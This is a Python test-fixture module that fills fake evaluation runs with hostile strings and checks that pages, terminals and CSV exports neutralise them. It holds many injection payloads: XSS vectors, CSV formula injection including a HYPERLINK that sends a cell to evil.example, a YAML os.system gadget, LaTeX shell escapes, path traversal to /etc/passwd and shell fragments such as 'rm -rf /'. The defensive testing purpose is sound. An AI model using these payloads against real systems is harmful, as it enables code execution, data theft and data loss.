"""Texts that want to run, load, hide or break out, and run folders in which every text is one of them.

For the tests of everything that shows a run: pages, reports, sites, tables. `make_run` asks nobody: it writes what the
engine would have written, with the engine's own journals and keys.

    folder = make_run(tmp_path, big=True)
    page = show(folder)
    assert_only_text(page)
"""

import json
import time
import unicodedata
from collections.abc import Sequence
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import msgspec

from viva.engine.evidence import program_key
from viva.engine.folder import ModelRecord, RunFolder, RunRecord
from viva.engine.journal import Entry, Journal
from viva.engine.reviews import Review, ReviewLog, item_key, line_id
from viva.engine.stages import Evaluation
from viva.runs.config import LimitOptions, TaskOptions
from viva.runs.exams import open_exams, remember
from viva.runs.open import OpenRun, prepare
from viva.types import Execution, Failure, Question, Usage

MARK = "vivaattack"
"""Stands in every text that could run: a page in which an element or a script carries it has been broken into."""

TEXTS: dict[str, str] = {
    "script": f"<script>window.{MARK}=1;alert('{MARK}')</script>",
    "script_end": f"</script><script>window.{MARK}=1</script><script type=application/json>",
    "comment": f"<!-- <script>window.{MARK}=1</script> --> <!--<script>",
    "comment_end": f"--><svg onload=window.{MARK}=1><!--",
    "cdata": f"<![CDATA[ ]]><script>window.{MARK}=1</script>",
    "handler": f"<img src=x onerror=window.{MARK}=1><b id={MARK}>bold</b>",
    "attribute": f'"><img src=x onerror=window.{MARK}=1> x=" autofocus onfocus=window.{MARK}=1 y=\'',
    "attribute_single": f"' onmouseover='window.{MARK}=1' style='position:fixed;inset:0' z='",
    "javascript": f"javascript:window.{MARK}=1//https://evil.example/",
    "link": f"<a href='javascript:window.{MARK}=1'>click</a> [click](javascript:window.{MARK}=1)",
    "frame": f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe><object data=//evil.example/></object>",
    "load": "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/><img src=//evil.example/x>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example/'><form action=//evil.example/><button>Go",
    "closing": "</textarea></title></style></details></table></select></template></noscript></pre></code></div>",
    "raw_text": f'<noscript><p title="</noscript><img src onerror=window.{MARK}=1>"><plaintext><xmp><listing>',
    "namespace": f"<math><mtext></form><form><mglyph><style></math><img src onerror=window.{MARK}=1>",
    "style": "<style>*{display:none!important;background:url(//evil.example/x)}</style> }</style>body{color:red}",
    "css": "expression(alert(1)); background:url('//evil.example/x'); } * { display: none } /*",
    "template": "{{ 7 * 7 }} {% for x in range(9) %}${7*7}#{7*7}<%= 7*7 %>[[7*7]]{{constructor.constructor('x')()}}",
    "entities": f"&lt;script&gt;window.{MARK}=1&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp &copy",
    "wide_brackets": f"＜script＞window.{MARK}=1＜/script＞ ‹script› \u2028 \u2029 \u3164",
    "json": f'"}}]}};window.{MARK}=1;//\\u003c/script\\u003e \\" \\\\ \\',
    "bidi": "\u202egnitirw srettel\u202c \u2066isolated\u2069 \u200fright\u200e \u061c done \u202d\u2067 never closed",
    "invisible": "zero\u200bwidth\u200c\u200d \ufeff \u00ad soft \u2060\u2061\u2062 \U000e0041\U000e0042 tag \ufe00",
    "terminal": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b[2J\x9b31m",
    "controls": "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0)))),
    "nul": "before\x00after\x00",
    "lines": "one\r\ntwo\rthree\n\n\nfour\x0bfive\x0csix\x85seven\u2028eight",
    "backspace": "good\b\b\b\bevil\rover",
    "emoji": "👩\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈 🇩🇪 é\u0301\u0301 1\ufe0f\u20e3 𝕏 𠜎",
    "stacked": "Z\u0335\u0321a\u0336\u0322l\u0337g\u0338o" + "\u0301" * 200,
    "formula": f'=HYPERLINK("http://evil.example/?"&A1;"{MARK}")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "csv": 'a,"b",""c"",\n=1+1,\r\n"; x;\'y\'',
    "latex": "\\input{/etc/passwd} \\write18{id} $x^2$ \\end{tabular} % & # _ ~ ^ { } \\\\ \\begin{verbatim} \\def\\x{",
    "markdown": "# title\n| a | b |\n|---|---|\n**bold** `code` ![x](//evil.example/x) <details> \\| ~~no~~ ```\n",
    "yaml": "- !!python/object/apply:os.system [id]\n? {a: &a [*a]}\n--- ...\n",
    "path": "../../../../etc/passwd",
    "path_windows": "..\\..\\C:\\Windows\\System32\\con.txt",
    "path_encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00.html?x=1#y&z",
    "url": "https://evil.example/?q=%22%3E%3Cscript%3E",
    "format": "%s %n %(x)s {0} {x.__class__} {!r} $(id) `id` ; rm -rf / | cat && true",
    "markup": "[bold red]rich[/bold red] [/] [link=http://evil.example]x[/link] :smile:",
    "nothing": "\u200b\u2060\u3164\u2800",
    "blanks": " \t \u00a0\u2003\u3000 ",
    "quotes": "\"'`´‘’“”«»\\\"\\'",
    "wide": "W" * 3000,
    "chinese": "以下哪个选项是正确的？" * 20,
    "markdown_links": f"[x](javascript:window.{MARK}=1) [y](data:text/html,<script>) [z](//evil.example) [r][a] "
    f'![r][a] <javascript:window.{MARK}=1> <http://evil.example/> ![i](http://evil.example/x.png "t")\n\n'
    f'[a]: javascript:window.{MARK}=1 "t"\n',
    "markdown_html": f"<img src=x onerror=window.{MARK}=1>\n\n<script>window.{MARK}=1</script>\n\n"
    f"&lt;b&gt; &#x202e; &#60;b id={MARK}&#62;\n\n```html <b id={MARK}>\n<b id={MARK}>\n```\n"
    f"| <b id={MARK}> | `<b id={MARK}>` |\n|:-|-:|\n| *<i>* | **<b>** |\n",
    "markdown_deep": "> " * 300
    + "- " * 300
    + "*_" * 300
    + "[![" * 100
    + "`" * 99
    + "\n"
    + "\n".join(" " * n + "- a" for n in range(60)),
    "formulas": f"$\\href{{javascript:window.{MARK}=1}}{{x}}$ $\\url{{//evil.example}}$ $\\text{{<b id={MARK}>}}$ "
    f"$$\\includegraphics{{http://evil.example/x}}$$ \\(\\htmlId{{{MARK}}}{{x}}\\) "
    f"\\[\\htmlStyle{{position:fixed}}{{x}}\\] $\\def\\a{{\\a\\a}}\\a$ "
    f"$\\rule{{9999em}}{{9999em}}$ $\\color{{red;x:y}}x$ $\\unicode{{x202e}}$ $x^{{{{2}}$ "
    f"${'{' * 100}x{'}' * 100}$",
}
"""Name → text. Every one is Unicode without lone surrogates, so any file can hold it."""

LONG = f"<b id={MARK}>" + "A line of a very long answer, with <i>tags</i> & signs.\n" * 20_000
"""A megabyte in lines."""
UNBROKEN = "x<" * 500_000
"""One megabyte without a blank."""

RUN = ("script", "terminal", "bidi")
"""Texts whose questions have a unit test, so that there is a sandbox that says something."""
MODELS = (f"openai/<img src=x onerror=window.{MARK}=1>", "openai/=1+1 \u202e\x1b[31m{{7*7}}</script>")
"""Models whose names are attacks."""
JUDGE = f"openai/judge </script><script>window.{MARK}=2</script>"
REVIEWER = f"Eve <b id={MARK}>"


def questions(path: Path, texts: dict[str, str] | None = None) -> Path:
    """A question file (JSON) with a question for every text: as question, as tags, as keyword, as judge's reference."""
    chosen = TEXTS if texts is None else texts
    listed = [
        {
            "id": name.replace("_", "-"),
            "question": f"{text} (question {name})",
            "tags": {"area": text[:200], "kind": "even" if number % 2 else "odd"},
            "grading": {
                **({"tests": {"language": "python", "cases": ["assert True"]}} if name in RUN else {}),
                # Only what is visible can be looked for.
                "keywords": [{"text": text if text.strip() else "nothing", "weight": 1}],
                "judge": {"reference": f"{text} (gold)", "instructions": text, "weight": 1},
            },
        }
        for number, (name, text) in enumerate(chosen.items())
    ]
    path.write_text(json.dumps({"title": TEXTS["script"], "questions": listed}), encoding="utf-8")
    return path


def make_run(
    folder: Path,
    *,
    models: Sequence[str] = MODELS,
    texts: dict[str, str] | None = None,
    samples: int = 1,
    big: bool = False,
    judged: bool = True,
    answered: float = 1.0,
) -> Path:
    """A run in `folder / "run"` about the question file `folder / "hostile.json"`: every answer is its question's text.

    The first model answers everything (as far as `answered`, a share), the last one fails every third time, with a
    hostile message. With `big` the first two answers of the first model are `LONG` and `UNBROKEN`. A sandbox has said
    something hostile of some answers; with `judged` a judge of every one, and an expert has marked the first.
    """
    folder.mkdir(parents=True, exist_ok=True)
    file = questions(folder / "hostile.json", texts)
    judges = (JUDGE,) if judged else ()
    run, opened = begun(folder / "run", file, models, judges, samples, (TEXTS["script"], TEXTS["terminal"]))
    responses, verdicts, executions = (run.journal(stage) for stage in ("responses", "annotations", "executions"))
    for number, evaluation in enumerate(opened.evaluations):
        _answer(evaluation, responses, number, answered, big=big and not number)
        _execute(evaluation, responses, executions)
    if judged:
        _judge(opened, responses, verdicts)
        _review(opened, run)
    for journal in (responses, verdicts, executions):
        journal.close()
    run.unlock()
    return run.path


def begun(
    place: Path,
    file: Path,
    models: Sequence[str],
    judges: Sequence[str] = (),
    samples: int = 1,
    command: Sequence[str] = (),
) -> tuple[RunFolder, OpenRun]:
    """A run folder about a question file, before anything was asked."""
    exams = open_exams((str(file),), TaskOptions())
    known, of_judges = (
        [ModelRecord(name=name, base_url="http://127.0.0.1:9/v1" if "openai/" in name else None) for name in names]
        for names in (models, judges)
    )
    record = RunRecord(
        viva="0.1.0", created="2026-01-01T00:00:00Z", command=["viva", "run", *command], samples=samples,
        exams=[remember(exam, data) for exam, data in exams], models=known, judges=of_judges,
    )  # fmt: skip
    run = RunFolder.create(place, record)
    return run, prepare(run, LimitOptions(progress="quiet"), [exam for exam, _ in exams])


def answer_of(
    evaluation: Evaluation,
    question: Question,
    key: bytes,
    sample: int,
    text: str,
    error: Failure | None = None,
    **more: Any,
) -> Entry:
    """A line of a journal, as the engine writes it."""
    return Entry(
        key=key.hex(), benchmark=evaluation.exam.spec.benchmark, model=evaluation.model.name, question=question.id,
        sample=sample, text="" if error else text, error=error, at=time.time(), **more,
    )  # fmt: skip


def text_of(question: Question) -> str:
    """The text that a question of `questions` was made of."""
    return question.text.rpartition(" (question ")[0]


def _answer(evaluation: Evaluation, journal: Journal, number: int, share: float, *, big: bool) -> None:
    wanted = list(evaluation.requests())
    for place, (question, key, request) in enumerate(wanted[: round(share * len(wanted))]):
        text = text_of(question)
        if big and place < 2:
            text = (LONG, UNBROKEN)[place]
        failed = number and place % 3 == 2
        error = Failure("<b>status</b>", f"the server said: {text}") if failed else None
        more = {"reasoning": text_of(question), "usage": Usage(11, 7), "seconds": 0.25}
        journal.append(answer_of(evaluation, question, key, request.sample, text, error, **more))


def _execute(evaluation: Evaluation, responses: Journal, executions: Journal) -> None:
    for question, _, entry in evaluation.answers(responses):
        for request in evaluation.exam.executions(question, entry.response()) if entry and not entry.error else ():
            said = Execution("failed", f"Error: {text_of(question)}", 0.5, 0.25)
            text = msgspec.json.encode(said).decode()
            executions.append(answer_of(evaluation, question, program_key(request), 0, text))


def _judge(opened: OpenRun, responses: Journal, verdicts: Journal) -> None:
    assert opened.judge_panel is not None
    asked: set[bytes] = set()
    for evaluation in opened.evaluations:
        for question, _, entry in evaluation.answers(responses):
            if entry is None or entry.error:
                continue
            for judge in opened.judge_panel.judges:
                response = entry.response()
                for key, request in opened.judge_panel.requests(judge.model, evaluation.exam, question, response, {}):
                    if key not in asked:
                        asked.add(key)
                        verdicts.append(
                            Entry(
                                key=key.hex(),
                                benchmark="judge",
                                model=judge.model.name,
                                question=question.id,
                                sample=request.sample,
                                text=f"{text_of(question)}\nVERDICT: {len(asked) % 11}",
                            )
                        )


def _review(opened: OpenRun, run: RunFolder) -> None:
    evaluation = opened.evaluations[0]
    question, text = next(iter(evaluation.exam.questions())), TEXTS["script"]
    item = item_key(evaluation.label, evaluation.model.name, question.id, 0, text)
    line = Review(
        id=line_id("hostile"),
        at=1.0,
        reviewer=REVIEWER,
        item=item,
        aspect="answer",
        after=0.5,
        comment=TEXTS["handler"],
    )
    ReviewLog(run.path / "reviews.jsonl").append([line])


def assert_only_text(html: str) -> None:
    """What one of the texts could have put into a page is not there: elements, handlers, unseen characters.

    Looks at the page as a parser does: tags and attributes, not at what stands in text.
    """
    found = Elements()
    found.feed(html)
    assert found.broken == []
    unseen = [f"U+{ord(character):04X}" for character in html if _unseen(character)]
    assert unseen == [], unseen[:10]


def assert_harmless(printed: str, *, ending: str = "\n\t") -> None:
    """What is printed steers no terminal and hides nothing: no control, bidi or other unseen character."""
    unseen = {f"U+{ord(character):04X}" for character in printed if character not in ending and _unseen(character)}
    assert unseen == set()


def assert_no_formula(cells: Sequence[str]) -> None:
    """No cell of a CSV file is a formula to a spreadsheet; negative numbers are none."""
    for cell in cells:
        if cell.lstrip()[:1] in ("=", "+", "-", "@"):
            try:
                float(cell)
            except ValueError:
                raise AssertionError(f"a formula: {cell[:80]!r}") from None


def _unseen(character: str) -> bool:
    if character in "\n\t":
        return False
    return unicodedata.category(character) in {"Cc", "Cs"} or character in _STEERING


_STEERING = frozenset(
    "\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff"
)


class Elements(HTMLParser):
    """The elements of a page that an attack put there: those with `MARK`, handlers, or addresses elsewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.broken: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            said = (value or "").strip().lower()
            handles = name.startswith("on") or name == "srcdoc"
            leads = name in _LEADING and (said.startswith(_ABROAD) or "evil.example" in said.partition("?")[0])
            marked = name == "id" and MARK in said
            if handles or leads or marked:
                self.broken.append(f"<{tag} {name}={value!r}>"[:200])
        if tag in _NEVER:
            self.broken.append(f"<{tag}>")


_LEADING = frozenset({"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcset"})
_ABROAD = ("javascript:", "data:text", "vbscript:", "//")
_NEVER = frozenset({"iframe", "object", "embed", "base", "plaintext", "xmp", "listing", "math", "mglyph", "frame"})
